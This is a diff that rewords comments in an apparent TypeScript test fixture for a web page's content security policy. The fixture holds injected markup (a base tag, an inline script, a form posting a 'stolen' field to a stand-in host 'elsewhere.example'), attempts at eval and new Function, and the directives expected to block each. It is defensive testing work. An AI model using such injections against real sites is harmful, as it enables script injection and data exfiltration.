@@ -1,9 +1,9 @@
-// Attacks by somebody who can write into a page. Each attack that runs adds its name to `window.ran`.
+// Attacks by someone who can inject content into a page. Each attack that runs adds its name to `window.ran`.
 
 const elsewhere = 'https://elsewhere.example'
 const run = (name: string) => `(window.ran = window.ran || []).push('${name}')`
 
-/** Markup in the page as served, before any portal code runs. Only the response's policy can block it. */
+/** Markup that the served page contains before any portal code runs. Only the content security policy can block it. */
 export const injectedText = `
   <base href="${elsewhere}/">
   <script>${run('inline script')}</script>
@@ -16,8 +16,8 @@ export const injectedText = `
   <form id="form" action="${elsewhere}/form" method="post"><input name="stolen" value="1"></form>`
 
 /**
- * Returns the directives that block all of these attacks. Trusted Types take effect before the directive that would
- * block eval.
+ * Returns the directives that block all of these attacks. With Trusted Types, their directive blocks eval before
+ * `script-src` can.
  */
 export const blockedBy = (hasTrustedTypes: boolean) => [
   'base-uri',
@@ -30,7 +30,10 @@ export const blockedBy = (hasTrustedTypes: boolean) => [
   hasTrustedTypes ? 'require-trusted-types-for' : 'script-src',
 ]
 
-/** Even without Trusted Types, the policy keeps the handlers of injected elements from running. */
+/**
+ * Returns the expected outcome of `attack`. Without Trusted Types, markup can be assigned, but the policy still blocks
+ * its handlers.
+ */
 export const harmless = (hasTrustedTypes: boolean) => ({
   hasTrustedTypes,
   ran: hasTrustedTypes ? [] : ['innerHTML'],
@@ -38,14 +41,14 @@ export const harmless = (hasTrustedTypes: boolean) => ({
   position: 'static',
 })
 
-/** Attacks the running page, which receives this function as source. Returns the results. */
+/** Runs all attacks in the page and returns their outcome. It is sent to the page as source. */
 export async function attack() {
   const ran: string[] = []
   const attempt = (name: string, act: () => unknown) => {
     try {
       if (act() !== 'refused') ran.push(name)
     } catch {
-      // Blocked.
+      // The browser has blocked the attack.
     }
   }
   attempt('link', () => {
@@ -56,7 +59,7 @@ export async function attack() {
     document.querySelector<HTMLFormElement>('#form')?.submit()
     return 'refused'
   })
-  // The browser lets the driver itself use eval.
+  // Waits until the driver's own call has ended, because the browser lets the driver use eval.
   await new Promise((resolve) => setTimeout(resolve))
   attempt('eval', () => Reflect.get(window, 'eval').call(window, '1 + 1'))
   attempt('new Function', () => Reflect.construct(Function, ['return 1']))
